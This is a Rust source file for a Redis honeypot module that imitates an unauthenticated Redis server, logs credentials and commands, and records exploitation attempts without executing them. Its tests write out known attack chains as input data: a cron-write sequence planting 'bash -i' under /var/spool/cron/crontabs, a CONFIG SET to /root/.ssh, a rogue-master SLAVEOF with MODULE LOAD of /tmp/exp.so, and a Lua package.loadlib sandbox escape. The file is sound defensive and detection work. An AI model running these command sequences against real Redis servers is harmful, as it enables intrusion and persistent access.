//! Redis: an open (unauthenticated) server by default, as attackers find them, so the steps of
//! the known exploitation chains arrive and are recorded: `CONFIG SET dir/dbfilename` + `SET` +
//! `SAVE` (cron / authorized_keys writes), `SLAVEOF`/`REPLICAOF` (rogue-master module
//! delivery), `MODULE LOAD`, `EVAL` (the Lua sandbox escape). `INFO` is shaped like the
//! persona's version, which is what nmap's redis probe reads.
//!
//! With `requirepass`, every command but `AUTH` (always WRONGPASS) and `QUIT` gets
//! `-NOAUTH Authentication required.`, like a server with a password set.
//!
//! Nothing is ever executed or persisted: keys live in a small per-connection map.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::sync::{Mutex, OnceLock};
use std::time::{Instant, SystemTime, UNIX_EPOCH};

use serde_json::{json, Map, Value};

use super::{Conn, Peer, ServiceCtx, MAX_COMMANDS, MAX_LINE, MAX_LOGGED};
use crate::log::{AttackDetails, AttackKind, Fields, Reporter};
use crate::util::{bump, clip, preview, push_bounded, set_once, Rng};

pub const NOAUTH: &[u8] = b"-NOAUTH Authentication required.\r\n";
pub const WRONGPASS: &[u8] = b"-WRONGPASS invalid username-password pair or user is disabled.\r\n";
pub const NO_PASSWORD: &[u8] = b"-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n";

pub const DEFAULT_VERSION: &str = "7.0.15";
pub const DEFAULT_OS: &str = "Linux 5.15.0-91-generic x86_64";

/// Largest bulk string accepted in a command.
const MAX_BULK: usize = 64 * 1024;
/// Most arguments accepted in one command.
const MAX_ARGS: usize = 1024;
/// Keys a connection may `SET` (the rest are answered but not kept).
const MAX_KEYS: usize = 64;
/// Bytes of a value kept in the per-connection map and in events.
const MAX_VALUE: usize = 4096;

fn bad(msg: &str) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, msg.to_owned())
}

/// One command as its arguments: a RESP array of bulk strings, or an inline
/// command line.
fn read_command<S: Read + Write>(conn: &mut Conn<S>) -> io::Result<Option<Vec<Vec<u8>>>> {
    let Some(line) = conn.read_line(MAX_LINE)? else {
        return Ok(None);
    };
    if let Some(n) = line.strip_prefix(b"*") {
        let n: i64 = std::str::from_utf8(n)
            .ok()
            .and_then(|n| n.parse().ok())
            .ok_or_else(|| bad("invalid multibulk length"))?;
        let n = usize::try_from(n).unwrap_or(0);
        if n > MAX_ARGS {
            return Err(bad("invalid multibulk length"));
        }
        let mut args = Vec::with_capacity(n);
        for _ in 0..n {
            let Some(head) = conn.read_line(MAX_LINE)? else {
                return Err(io::ErrorKind::UnexpectedEof.into());
            };
            let len = head
                .strip_prefix(b"$")
                .and_then(|l| std::str::from_utf8(l).ok())
                .and_then(|l| l.parse::<usize>().ok())
                .filter(|&l| l <= MAX_BULK)
                .ok_or_else(|| bad("invalid bulk length"))?;
            let mut arg = conn.read_exact_vec(len + 2)?;
            arg.truncate(len);
            args.push(arg);
        }
        return Ok(Some(args));
    }
    Ok(Some(split_inline(&line)))
}

/// An inline command's arguments, with redis's quoting: `"…"` (with `\n`, `\xHH` … escapes)
/// and `'…'`. An unbalanced quote ends the argument at the line's end.
pub fn split_inline(line: &[u8]) -> Vec<Vec<u8>> {
    let mut args = Vec::new();
    let mut i = 0;
    while i < line.len() {
        while i < line.len() && line[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= line.len() {
            break;
        }
        let mut arg = Vec::new();
        match line[i] {
            b'"' => {
                i += 1;
                while i < line.len() && line[i] != b'"' {
                    if line[i] == b'\\' && i + 1 < line.len() {
                        i += 1;
                        let hex = line.get(i + 1..i + 3).and_then(|h| {
                            std::str::from_utf8(h)
                                .ok()
                                .and_then(|h| u8::from_str_radix(h, 16).ok())
                        });
                        match (line[i], hex) {
                            (b'x', Some(v)) => {
                                arg.push(v);
                                i += 2;
                            }
                            (b'n', _) => arg.push(b'\n'),
                            (b'r', _) => arg.push(b'\r'),
                            (b't', _) => arg.push(b'\t'),
                            (c, _) => arg.push(c),
                        }
                    } else {
                        arg.push(line[i]);
                    }
                    i += 1;
                }
                i += 1;
            }
            b'\'' => {
                i += 1;
                while i < line.len() && line[i] != b'\'' {
                    arg.push(line[i]);
                    i += 1;
                }
                i += 1;
            }
            _ => {
                while i < line.len() && !line[i].is_ascii_whitespace() {
                    arg.push(line[i]);
                    i += 1;
                }
            }
        }
        args.push(arg);
    }
    args
}

pub fn bulk(data: &[u8]) -> Vec<u8> {
    let mut out = format!("${}\r\n", data.len()).into_bytes();
    out.extend_from_slice(data);
    out.extend_from_slice(b"\r\n");
    out
}

pub fn array(items: &[&[u8]]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", items.len()).into_bytes();
    for i in items {
        out.extend(bulk(i));
    }
    out
}

const NIL: &[u8] = b"$-1\r\n";
const OK: &[u8] = b"+OK\r\n";

/// What `INFO` shows: the persona's version and OS, this connection's port.
#[derive(Debug, Clone)]
pub struct Persona {
    pub version: String,
    pub os: String,
    pub port: u16,
    pub run_id: String,
    pub process_id: u32,
    /// Seconds the server pretends to have been up when this process started.
    pub uptime_base: u64,
}

fn major(version: &str) -> u32 {
    version
        .split('.')
        .next()
        .and_then(|m| m.parse().ok())
        .unwrap_or(7)
}

/// The `INFO` text (sections `server` … `keyspace`); `section` picks one, case-insensitive.
pub fn info(p: &Persona, section: Option<&str>, keys: usize) -> String {
    static START: OnceLock<Instant> = OnceLock::new();
    let up = p.uptime_base + START.get_or_init(Instant::now).elapsed().as_secs();
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap_or_default();
    let m = major(&p.version);
    let mut server = vec![
        format!("redis_version:{}", p.version),
        "redis_git_sha1:00000000".into(),
        "redis_git_dirty:0".into(),
        "redis_build_id:a1f6d4e1a5c2b7e9".into(),
        "redis_mode:standalone".into(),
        format!("os:{}", p.os),
        "arch_bits:64".into(),
    ];
    if m >= 6 {
        server.push("monotonic_clock:POSIX clock_gettime".into());
    }
    server.extend([
        "multiplexing_api:epoll".into(),
        "atomicvar_api:c11-builtin".into(),
        "gcc_version:12.2.0".into(),
        format!("process_id:{}", p.process_id),
    ]);
    if m >= 6 {
        server.push("process_supervised:systemd".into());
    }
    server.extend([
        format!("run_id:{}", p.run_id),
        format!("tcp_port:{}", p.port),
        format!("server_time_usec:{}", now.as_micros()),
        format!("uptime_in_seconds:{up}"),
        format!("uptime_in_days:{}", up / 86_400),
        "hz:10".into(),
        "configured_hz:10".into(),
        format!("lru_clock:{}", now.as_secs() % (1 << 24)),
        "executable:/usr/bin/redis-server".into(),
        "config_file:/etc/redis/redis.conf".into(),
    ]);
    if m >= 6 {
        server.push("io_threads_active:0".into());
    }
    let sections: [(&str, Vec<String>); 9] = [
        ("Server", server),
        (
            "Clients",
            vec![
                "connected_clients:1".into(),
                "cluster_connections:0".into(),
                "maxclients:10000".into(),
                "client_recent_max_input_buffer:20480".into(),
                "client_recent_max_output_buffer:0".into(),
                "blocked_clients:0".into(),
            ],
        ),
        (
            "Memory",
            vec![
                "used_memory:1054792".into(),
                "used_memory_human:1.01M".into(),
                "used_memory_rss:7315456".into(),
                "used_memory_rss_human:6.98M".into(),
                "used_memory_peak:1133552".into(),
                "used_memory_peak_human:1.08M".into(),
                "maxmemory:0".into(),
                "maxmemory_human:0B".into(),
                "maxmemory_policy:noeviction".into(),
                "mem_allocator:jemalloc-5.3.0".into(),
            ],
        ),
        (
            "Persistence",
            vec![
                "loading:0".into(),
                "rdb_changes_since_last_save:0".into(),
                "rdb_bgsave_in_progress:0".into(),
                format!(
                    "rdb_last_save_time:{}",
                    now.as_secs().saturating_sub(up % 3600)
                ),
                "rdb_last_bgsave_status:ok".into(),
                "aof_enabled:0".into(),
                "aof_rewrite_in_progress:0".into(),
            ],
        ),
        (
            "Stats",
            vec![
                format!("total_connections_received:{}", 40 + up / 3600),
                format!("total_commands_processed:{}", 300 + up / 60),
                "instantaneous_ops_per_sec:0".into(),
                "rejected_connections:0".into(),
                "expired_keys:0".into(),
                "evicted_keys:0".into(),
                "keyspace_hits:12".into(),
                "keyspace_misses:3".into(),
            ],
        ),
        (
            "Replication",
            vec![
                "role:master".into(),
                "connected_slaves:0".into(),
                format!(
                    "master_replid:{}",
                    p.run_id.chars().rev().collect::<String>()
                ),
                "master_repl_offset:0".into(),
            ],
        ),
        (
            "CPU",
            vec![
                format!("used_cpu_sys:{}.{:06}", up / 900, up % 1_000_000),
                format!("used_cpu_user:{}.{:06}", up / 1200, (up * 7) % 1_000_000),
            ],
        ),
        ("Cluster", vec!["cluster_enabled:0".into()]),
        (
            "Keyspace",
            if keys > 0 {
                vec![format!("db0:keys={keys},expires=0,avg_ttl=0")]
            } else {
                Vec::new()
            },
        ),
    ];
    let pick = section
        .map(str::to_ascii_lowercase)
        .filter(|s| !matches!(s.as_str(), "all" | "default" | "everything"));
    let mut out = String::new();
    for (name, lines) in &sections {
        if pick
            .as_ref()
            .is_some_and(|s| *s != name.to_ascii_lowercase())
        {
            continue;
        }
        if !out.is_empty() {
            out.push_str("\r\n");
        }
        out.push_str(&format!("# {name}\r\n"));
        for l in lines {
            out.push_str(l);
            out.push_str("\r\n");
        }
    }
    out
}

fn unknown(name: &str, args: &[Vec<u8>]) -> Vec<u8> {
    let mut s = format!(
        "-ERR unknown command '{}', with args beginning with: ",
        clip(name.as_bytes(), 64)
    );
    for a in args.iter().take(8) {
        s.push_str(&format!("'{}' ", clip(a, 64)));
    }
    s.retain(|c| c != '\r' && c != '\n');
    s.push_str("\r\n");
    s.into_bytes()
}

/// What the pretend server keeps between connections (bounded: 64 values of at most 4 KiB),
/// so an attacker's `CONFIG SET dir` shows in their next `CONFIG GET`.
#[derive(Debug, Clone)]
pub struct Store {
    keys: BTreeMap<Vec<u8>, Vec<u8>>,
    dir: Vec<u8>,
    dbfilename: Vec<u8>,
}

impl Default for Store {
    fn default() -> Self {
        Store {
            keys: BTreeMap::new(),
            dir: b"/var/lib/redis".to_vec(),
            dbfilename: b"dump.rdb".to_vec(),
        }
    }
}

/// The service process's one store.
fn shared_store() -> &'static Mutex<Store> {
    static STORE: OnceLock<Mutex<Store>> = OnceLock::new();
    STORE.get_or_init(Mutex::default)
}

/// One connection's view of the pretend server.
struct Session<'a> {
    report: &'a Reporter,
    persona: Persona,
    store: Store,
}

impl Session<'_> {
    /// Reports an exploitation step: a `command` event with `action` and extra keys.
    fn step(&self, command: &str, action: &str, extra: Value, fields: &mut Fields) {
        let mut map = match extra {
            Value::Object(m) => m,
            _ => Map::new(),
        };
        map.insert("action".into(), Value::from(action));
        push_bounded(fields, "actions", Value::from(action), MAX_LOGGED);
        self.report.emit(
            AttackKind::Command,
            AttackDetails {
                command: Some(command.to_owned()),
                extra: map,
                ..Default::default()
            },
        );
    }

    fn auth(&self, args: &[Vec<u8>], fields: &mut Fields) -> &'static [u8] {
        let (user, pass) = match args {
            [pass] => (None, pass.as_slice()),
            [user, pass, ..] => (Some(user.as_slice()), pass.as_slice()),
            [] => return b"-ERR wrong number of arguments for 'auth' command\r\n",
        };
        let username = clip(user.unwrap_or(b"default"), 128);
        let password = clip(pass, 256);
        push_bounded(
            fields,
            "credentials",
            json!({"username": username, "password": password}),
            MAX_LOGGED,
        );
        set_once(fields, "username", Value::from(username.clone()));
        let mut extra = Map::new();
        if user.is_some() {
            extra.insert("acl_user".into(), Value::from(true));
        }
        self.report.emit(
            AttackKind::Auth,
            AttackDetails {
                username: Some(username),
                password: Some(password),
                method: Some("password".into()),
                accepted: Some(false),
                extra,
                ..Default::default()
            },
        );
        WRONGPASS
    }

    /// The answer of the open server to one command.
    fn answer(&mut self, name: &str, args: &[Vec<u8>], rendered: &str, f: &mut Fields) -> Vec<u8> {
        let arg = |i: usize| {
            args.get(i)
                .map(|a| String::from_utf8_lossy(a).to_ascii_lowercase())
        };
        // (arguments, exact) of the commands a scanner sends with the wrong count: nmap's GET
        // probe is named by exactly this answer.
        let arity = match name {
            "GET" | "ECHO" | "KEYS" | "TYPE" | "SELECT" => Some((1, true)),
            "SET" | "SETNX" | "APPEND" => Some((2, false)),
            "SETEX" => Some((3, true)),
            "DEL" | "UNLINK" | "EXISTS" | "CONFIG" | "MODULE" | "CLIENT" => Some((1, false)),
            "DBSIZE" | "SAVE" | "LASTSAVE" | "TIME" | "ROLE" => Some((0, true)),
            "SLAVEOF" | "REPLICAOF" => Some((2, true)),
            "EVAL" | "EVALSHA" => Some((2, false)),
            _ => None,
        };
        if let Some((n, exact)) = arity {
            if args.len() < n || (exact && args.len() != n) {
                return wrong_args(&name.to_ascii_lowercase());
            }
        }
        match name {
            "PING" => match args.first() {
                Some(a) => bulk(a),
                None => b"+PONG\r\n".to_vec(),
            },
            "ECHO" => args.first().map_or_else(|| wrong_args("echo"), |a| bulk(a)),
            "INFO" => bulk(info(&self.persona, arg(0).as_deref(), self.store.keys.len()).as_bytes()),
            "AUTH" => match args.len() {
                1 => {
                    self.auth(args, f);
                    NO_PASSWORD.to_vec()
                }
                _ => self.auth(args, f).to_vec(),
            },
            "SELECT" | "FLUSHALL" | "FLUSHDB" | "SWAPDB" | "RESET" => {
                if name.starts_with("FLUSH") {
                    self.store.keys.clear();
                    self.step(rendered, "flush", json!({}), f);
                }
                OK.to_vec()
            }
            "DBSIZE" => format!(":{}\r\n", self.store.keys.len()).into_bytes(),
            "KEYS" | "SCAN" => {
                let ks: Vec<&[u8]> = self.store.keys.keys().map(Vec::as_slice).collect();
                if name == "SCAN" {
                    let mut out = b"*2\r\n$1\r\n0\r\n".to_vec();
                    out.extend(array(&ks));
                    out
                } else {
                    array(&ks)
                }
            }
            "SET" | "SETNX" | "SETEX" | "APPEND" => {
                let (key, value) = match (name, args) {
                    ("SETEX", [k, _, v, ..]) => (k, v),
                    (_, [k, v, ..]) => (k, v),
                    _ => return wrong_args(&name.to_ascii_lowercase()),
                };
                let kept = &value[..value.len().min(MAX_VALUE)];
                if self.store.keys.len() < MAX_KEYS || self.store.keys.contains_key(key) {
                    self.store.keys.insert(key.clone(), kept.to_vec());
                }
                self.step(
                    rendered,
                    "set",
                    json!({"key": clip(key, 256), "value": preview(kept, 1024), "bytes_in": value.len()}),
                    f,
                );
                if name == "APPEND" {
                    format!(":{}\r\n", value.len()).into_bytes()
                } else {
                    OK.to_vec()
                }
            }
            "GET" => args
                .first()
                .and_then(|k| self.store.keys.get(k))
                .map_or_else(|| NIL.to_vec(), |v| bulk(v)),
            "DEL" | "UNLINK" | "EXISTS" => {
                let n = args.iter().filter(|k| self.store.keys.contains_key(*k)).count();
                if name != "EXISTS" {
                    args.iter().for_each(|k| {
                        self.store.keys.remove(k);
                    });
                }
                format!(":{n}\r\n").into_bytes()
            }
            "TYPE" => {
                let t = args.first().filter(|k| self.store.keys.contains_key(*k));
                if t.is_some() { b"+string\r\n".to_vec() } else { b"+none\r\n".to_vec() }
            }
            "CONFIG" => self.config(args, rendered, f),
            "SAVE" | "BGSAVE" => {
                self.step(
                    rendered,
                    "save",
                    json!({
                        "path": format!("{}/{}", clip(&self.store.dir, 256), clip(&self.store.dbfilename, 256)),
                        "keys": self.store.keys.len(),
                    }),
                    f,
                );
                if name == "SAVE" {
                    OK.to_vec()
                } else {
                    b"+Background saving started\r\n".to_vec()
                }
            }
            "LASTSAVE" => format!(":{}\r\n", SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .unwrap_or_default()
                .as_secs()
                .saturating_sub(600))
            .into_bytes(),
            "SLAVEOF" | "REPLICAOF" => match args {
                [h, p] if h.eq_ignore_ascii_case(b"no") && p.eq_ignore_ascii_case(b"one") => {
                    self.step(rendered, "replicaof_no_one", json!({}), f);
                    OK.to_vec()
                }
                [h, p] => {
                    self.step(
                        rendered,
                        "replicaof",
                        json!({"host": clip(h, 256), "port": clip(p, 16)}),
                        f,
                    );
                    OK.to_vec()
                }
                _ => wrong_args(&name.to_ascii_lowercase()),
            },
            "MODULE" => match arg(0).as_deref() {
                Some("load") | Some("loadex") => {
                    let path = args.get(1).map(|p| clip(p, 512)).unwrap_or_default();
                    self.step(rendered, "module_load", json!({"path": path}), f);
                    b"-ERR Error loading the extension. Please check the server logs.\r\n".to_vec()
                }
                Some("list") => b"*0\r\n".to_vec(),
                Some("unload") => b"-ERR Error unloading module: no such module with that name\r\n".to_vec(),
                _ => b"-ERR unknown subcommand or wrong number of arguments for 'module' command\r\n".to_vec(),
            },
            "EVAL" | "EVALSHA" | "EVAL_RO" | "SCRIPT" | "FUNCTION" | "FCALL" => {
                let script = args.first().map(|s| preview(s, 2048)).unwrap_or_default();
                self.step(rendered, "eval", json!({"script": script}), f);
                let lower = script.to_ascii_lowercase();
                if name == "SCRIPT" || name == "FUNCTION" {
                    OK.to_vec()
                } else if lower.contains("package") || lower.contains("loadlib") {
                    b"-ERR user_script:1: Script attempted to access nonexistent global variable 'package' script: 1\r\n".to_vec()
                } else if lower.contains("io.") || lower.contains("os.") {
                    b"-ERR user_script:1: Script attempted to access nonexistent global variable 'io' script: 1\r\n".to_vec()
                } else {
                    NIL.to_vec()
                }
            }
            "CLIENT" => match arg(0).as_deref() {
                Some("setname") | Some("setinfo") | Some("kill") | Some("no-evict") => OK.to_vec(),
                Some("id") => b":7\r\n".to_vec(),
                Some("getname") => NIL.to_vec(),
                Some("list") | Some("info") => bulk(
                    format!(
                        "id=7 addr=unknown laddr=0.0.0.0:{} fd=8 name= age=0 idle=0 flags=N db=0 sub=0 psub=0 cmd=client|{}\n",
                        self.persona.port,
                        arg(0).unwrap_or_default()
                    )
                    .as_bytes(),
                ),
                _ => b"-ERR unknown subcommand\r\n".to_vec(),
            },
            "COMMAND" => b"*0\r\n".to_vec(),
            "TIME" => {
                let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default();
                array(&[
                    now.as_secs().to_string().as_bytes(),
                    now.subsec_micros().to_string().as_bytes(),
                ])
            }
            "ROLE" => b"*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n".to_vec(),
            "SHUTDOWN" | "DEBUG" | "MONITOR" | "SYNC" | "PSYNC" | "MIGRATE" => {
                self.step(rendered, &name.to_ascii_lowercase(), json!({}), f);
                b"-ERR operation not permitted\r\n".to_vec()
            }
            _ => unknown(&name.to_ascii_lowercase(), args),
        }
    }

    fn config(&mut self, args: &[Vec<u8>], rendered: &str, f: &mut Fields) -> Vec<u8> {
        let sub = args
            .first()
            .map(|a| a.to_ascii_lowercase())
            .unwrap_or_default();
        match sub.as_slice() {
            b"set" => {
                if args.len() < 3 || args.len().is_multiple_of(2) {
                    return wrong_args("config|set");
                }
                for pair in args[1..].chunks(2) {
                    let param = String::from_utf8_lossy(&pair[0]).to_ascii_lowercase();
                    let value = &pair[1];
                    match param.as_str() {
                        "dir" => self.store.dir = value[..value.len().min(512)].to_vec(),
                        "dbfilename" => {
                            self.store.dbfilename = value[..value.len().min(512)].to_vec()
                        }
                        _ => {}
                    }
                    self.step(
                        rendered,
                        "config_set",
                        json!({"param": clip(param.as_bytes(), 64), "value": clip(value, 512)}),
                        f,
                    );
                }
                OK.to_vec()
            }
            b"get" => {
                let param = args
                    .get(1)
                    .map(|a| a.to_ascii_lowercase())
                    .unwrap_or_default();
                let dir = self.store.dir.clone();
                let db = self.store.dbfilename.clone();
                let table: [(&[u8], &[u8]); 6] = [
                    (b"dir", &dir),
                    (b"dbfilename", &db),
                    (b"requirepass", b""),
                    (b"protected-mode", b"no"),
                    (b"bind", b"* -::*"),
                    (b"port", b"6379"),
                ];
                let mut items: Vec<&[u8]> = Vec::new();
                for (k, v) in table {
                    if param == k || param == b"*" {
                        items.push(k);
                        items.push(v);
                    }
                }
                array(&items)
            }
            b"resetstat" | b"rewrite" => OK.to_vec(),
            _ => b"-ERR unknown subcommand or wrong number of arguments for 'config' command\r\n"
                .to_vec(),
        }
    }
}

fn wrong_args(cmd: &str) -> Vec<u8> {
    format!("-ERR wrong number of arguments for '{cmd}' command\r\n").into_bytes()
}

pub fn handle<S: Read + Write>(
    conn: Conn<S>,
    ctx: &ServiceCtx,
    peer: &Peer,
    report: &Reporter,
    fields: &mut Fields,
) -> io::Result<()> {
    serve(conn, ctx, peer, report, fields, shared_store())
}

/// [`handle`] with the store it keeps state in.
fn serve<S: Read + Write>(
    mut conn: Conn<S>,
    ctx: &ServiceCtx,
    peer: &Peer,
    report: &Reporter,
    fields: &mut Fields,
    shared: &Mutex<Store>,
) -> io::Result<()> {
    let requirepass = ctx
        .config
        .get("requirepass")
        .is_some_and(|v| v.as_bool() == Some(true));
    let mut rng = Rng::new();
    // The same process always shows the same run id and pid, like one real server.
    static IDENTITY: OnceLock<(String, u32, u64)> = OnceLock::new();
    let (run_id, process_id, uptime_base) = IDENTITY
        .get_or_init(|| {
            (
                rng.hex(40),
                (rng.next_u64() % 2000) as u32 + 600,
                rng.next_u64() % (40 * 86_400) + 3 * 86_400,
            )
        })
        .clone();
    let mut session = Session {
        report,
        persona: Persona {
            version: ctx
                .config
                .line("version")
                .unwrap_or_else(|| DEFAULT_VERSION.to_owned()),
            os: ctx
                .config
                .line("os_string")
                .unwrap_or_else(|| DEFAULT_OS.to_owned()),
            port: peer.dst_port,
            run_id,
            process_id,
            uptime_base,
        },
        store: Store::default(),
    };
    for _ in 0..MAX_COMMANDS {
        let Some(args) = read_command(&mut conn)? else {
            return Ok(());
        };
        let Some(name) = args.first() else { continue };
        let name = String::from_utf8_lossy(name).to_ascii_uppercase();
        let rendered = args
            .iter()
            .take(8)
            .map(|a| preview(a, 64))
            .collect::<Vec<_>>()
            .join(" ");
        set_once(fields, "first_command", Value::from(rendered.clone()));
        push_bounded(
            fields,
            "commands",
            Value::from(rendered.clone()),
            MAX_LOGGED,
        );
        bump(fields, "command_count");
        report.emit(
            AttackKind::Command,
            AttackDetails {
                command: Some(rendered.clone()),
                ..Default::default()
            },
        );
        if name == "QUIT" {
            conn.send(OK)?;
            return Ok(());
        }
        // Redis closes on what looks like HTTP sent to it (cross-protocol scripting).
        if name == "POST" || name == "HOST:" {
            fields.insert("reason".into(), Value::from("http request"));
            return Ok(());
        }
        // Other connections' writes show up between this one's commands.
        session.store = shared.lock().map(|s| s.clone()).unwrap_or_default();
        let reply = if requirepass {
            if name == "AUTH" {
                session.auth(&args[1..], fields).to_vec()
            } else {
                NOAUTH.to_vec()
            }
        } else {
            let reply = session.answer(&name, &args[1..], &rendered, fields);
            if let Ok(mut s) = shared.lock() {
                *s = session.store.clone();
            }
            reply
        };
        conn.send(&reply)?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::super::testing::{ctx, peer, reporter, run, run_events, Mock};
    use super::super::Conn;
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn requirepass_gets_noauth() {
        let (out, f) = run(
            "redis",
            json!({"requirepass": true}),
            b"*1\r\n$4\r\nPING\r\nINFO server\r\n*2\r\n$6\r\nCONFIG\r\n$0\r\n\r\n",
        );
        assert_eq!(out.as_bytes(), [NOAUTH, NOAUTH, NOAUTH].concat());
        assert_eq!(f["first_command"], "PING");
        assert_eq!(f["commands"], json!(["PING", "INFO server", "CONFIG "]));
        assert_eq!(f["command_count"], 3);
    }

    #[test]
    fn auth_is_captured_and_quit_closes() {
        let (out, f, ev) = run_events(
            "redis",
            json!({}),
            b"AUTH s3cret\r\n*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$2\r\npw\r\nQUIT\r\nPING\r\n",
        );
        assert_eq!(
            out.as_bytes(),
            [NO_PASSWORD, WRONGPASS, b"+OK\r\n"].concat()
        );
        assert_eq!(
            f["credentials"],
            json!([{"username": "default", "password": "s3cret"}, {"username": "admin", "password": "pw"}])
        );
        let auth: Vec<_> = ev.iter().filter(|e| e.kind == AttackKind::Auth).collect();
        assert_eq!(auth.len(), 2);
        assert_eq!(auth[1].details.username.as_deref(), Some("admin"));
        assert_eq!(auth[1].details.password.as_deref(), Some("pw"));
        assert_eq!(auth[1].details.extra["acl_user"], true);
        assert_eq!(auth[0].details.accepted, Some(false));
    }

    #[test]
    fn info_matches_nmaps_probe_shape() {
        let (out, _) = run(
            "redis",
            json!({"version": "6.2.6", "os_string": "Linux 4.19.0 x86_64"}),
            b"*1\r\n$4\r\ninfo\r\n",
        );
        // nmap: ^\$\d+\r\n(?:#[^\r\n]*\r\n)*redis_version:([.\d]+)\r\n
        let (len, body) = out.split_once("\r\n").expect("bulk header");
        assert_eq!(len[1..].parse::<usize>().expect("len"), body.len() - 2);
        assert!(body.starts_with("# Server\r\nredis_version:6.2.6\r\n"));
        assert!(body.contains("\r\nos:Linux 4.19.0 x86_64\r\n"));
        assert!(body.contains("\r\n# Keyspace\r\n"));
        let (out, _) = run("redis", json!({}), b"INFO replication\r\n");
        assert!(out.contains("# Replication\r\nrole:master"));
        assert!(!out.contains("# Server"));
    }

    #[test]
    fn the_cron_chain_is_recorded() {
        let (out, f, ev) = run_events(
            "redis",
            json!({}),
            b"FLUSHALL\r\nSET x \"\\n* * * * * bash -i\\n\"\r\nCONFIG SET dir /var/spool/cron/crontabs\r\n\
              CONFIG SET dbfilename root\r\nCONFIG GET dir\r\nSAVE\r\nKEYS *\r\nGET x\r\n",
        );
        assert!(out.starts_with("+OK\r\n+OK\r\n+OK\r\n+OK\r\n*2\r\n$3\r\ndir\r\n$24\r\n/var/spool/cron/crontabs\r\n+OK\r\n*1\r\n$1\r\nx\r\n"));
        assert_eq!(
            f["actions"],
            json!(["flush", "set", "config_set", "config_set", "save"])
        );
        let save = ev
            .iter()
            .find(|e| e.details.extra.get("action") == Some(&json!("save")))
            .expect("save step");
        assert_eq!(save.details.extra["path"], "/var/spool/cron/crontabs/root");
        assert_eq!(save.kind, AttackKind::Command);
        let set = ev
            .iter()
            .find(|e| e.details.extra.get("action") == Some(&json!("set")))
            .expect("set");
        assert_eq!(set.details.extra["key"], "x");
    }

    #[test]
    fn rogue_master_module_and_eval_are_recorded() {
        let (out, f, ev) = run_events(
            "redis",
            json!({}),
            b"SLAVEOF 203.0.113.5 21000\r\nMODULE LOAD /tmp/exp.so\r\nsystem.exec id\r\n\
              SLAVEOF NO ONE\r\nEVAL 'local io_l = package.loadlib(\"x\", \"luaopen_io\")' 0\r\n",
        );
        let lines: Vec<&str> = out.split("\r\n").collect();
        assert_eq!(lines[0], "+OK");
        assert!(lines[1].starts_with("-ERR Error loading the extension"));
        assert_eq!(
            lines[2],
            "-ERR unknown command 'system.exec', with args beginning with: 'id' "
        );
        assert_eq!(lines[3], "+OK");
        assert!(lines[4].contains("nonexistent global variable 'package'"));
        assert_eq!(
            f["actions"],
            json!(["replicaof", "module_load", "replicaof_no_one", "eval"])
        );
        let r = ev
            .iter()
            .find(|e| e.details.extra.get("action") == Some(&json!("replicaof")))
            .expect("replicaof");
        assert_eq!(r.details.extra["host"], "203.0.113.5");
        assert_eq!(r.details.extra["port"], "21000");
        let m = ev
            .iter()
            .find(|e| e.details.extra.get("action") == Some(&json!("module_load")))
            .expect("module");
        assert_eq!(m.details.extra["path"], "/tmp/exp.so");
    }

    #[test]
    fn nmaps_get_probe_and_http_are_answered_like_redis() {
        let (out, _) = run("redis", json!({}), b"GET / HTTP/1.0\r\n\r\n");
        assert_eq!(out, "-ERR wrong number of arguments for 'get' command\r\n");
        let (out, f) = run(
            "redis",
            json!({}),
            b"POST / HTTP/1.1\r\nHost: x\r\n\r\nPING\r\n",
        );
        assert_eq!(out, "");
        assert_eq!(f["reason"], "http request");
    }

    #[test]
    fn state_is_shared_between_connections() {
        let store = Mutex::new(Store::default());
        let c = ctx("redis", json!({}));
        let one = |input: &[u8]| {
            let (report, _) = reporter("redis", 6379);
            let mut m = Mock::new(input);
            let mut f = Fields::new();
            serve(Conn::new(&mut m), &c, &peer(6379), &report, &mut f, &store).expect("ok");
            m.out()
        };
        one(b"CONFIG SET dir /root/.ssh\r\nSET k v\r\n");
        assert_eq!(
            one(b"CONFIG GET dir\r\nGET k\r\n"),
            "*2\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n$1\r\nv\r\n"
        );
    }

    #[test]
    fn inline_quoting() {
        let check = |line: &[u8], expect: &[&[u8]]| {
            let got = split_inline(line);
            assert_eq!(got, expect.iter().map(|a| a.to_vec()).collect::<Vec<_>>());
        };
        check(b"  set  k v ", &[b"set", b"k", b"v"]);
        check(
            b"set x \"a\\nb\\x41\" 'c d'",
            &[b"set", b"x", b"a\nbA", b"c d"],
        );
        check(b"echo \"open", &[b"echo", b"open"]);
        check(b"\"\\", &[b"\\"]);
        check(b"", &[]);
    }

    #[test]
    fn garbage_framing_is_an_error() {
        let c = ctx("redis", json!({}));
        let mut m = Mock::new(b"*x\r\n");
        let mut f = Fields::new();
        let (report, _) = reporter("redis", 6379);
        let r = super::super::handle(&c, &peer(6379), &report, &mut m, &mut f);
        assert!(r.is_err());
    }

    proptest! {
        #[test]
        fn hostile_input_never_panics(data in proptest::collection::vec(any::<u8>(), 0..800)) {
            let c = ctx("redis", json!({}));
            let (report, _) = reporter("redis", 6379);
            let mut f = Fields::new();
            let _ = super::super::handle(&c, &peer(6379), &report, &mut Mock::new(&data), &mut f);
        }

        #[test]
        fn any_command_words_never_panic(
            words in proptest::collection::vec("(?i)(set|get|config|module|eval|slaveof|info|auth|no|one|dir|load|scan|del|client|list|[a-z/.]{0,6}|[0-9]{0,3})", 0..6),
        ) {
            let line = format!("{}\r\n", words.join(" "));
            let c = ctx("redis", json!({}));
            let (report, _) = reporter("redis", 6379);
            let mut f = Fields::new();
            let r = super::super::handle(&c, &peer(6379), &report, &mut Mock::new(line.as_bytes()), &mut f);
            prop_assert!(r.is_ok());
        }
    }
}
